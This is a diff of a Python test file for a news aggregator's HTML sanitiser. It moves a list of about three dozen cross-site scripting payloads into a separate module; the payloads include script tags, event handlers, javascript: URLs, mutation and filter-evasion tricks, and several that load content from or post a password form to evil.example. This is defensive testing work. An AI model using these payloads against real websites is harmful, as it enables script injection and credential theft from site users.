@@ -8,47 +8,10 @@ import time
 import pytest
 
 from aggregator.ingest.sanitise import MAX_HTML, clean, from_text, images, to_text
+from tests.ingest.attacks import ATTACKS
 
 BASE = "https://news.example/2024/goal"
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='x' onerror='alert(1)' / >",
-    "<body onload=alert(1)>",
-    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<iframe src=https://evil.example/></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object>",
-    "<embed src=javascript:alert(1)>",
-    "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>Go</button></form>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<p style='background:url(javascript:alert(1))' onclick=alert(1) id=x class=y>x</p>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' &#14; java&#x0A;script:alert(1)'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-    "<a href='vbscript:x'>x</a>",
-    "<img src='javascript:alert(1)'>",
-    "<video poster=javascript:alert(1) src=data:video/mp4,x onplay=alert(1)></video>",
-    "<template><script>alert(1)</script></template>",
-    "<textarea><script>alert(1)</script></textarea>",
-    "<!--<img src='--><img src=x onerror=alert(1)//'>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<a href='https://x.example/' target=_blank ping=https://evil.example/>x</a>",
-    "<img src=x srcset='https://evil.example/x 2x'>",
-    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
-    "<xss style=behavior:url(x)>",
-    "<details open ontoggle=alert(1)>",
-    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
-]
 ALLOWED_ADDRESS = re.compile(r"(?:https?://|mailto:)")
 
 
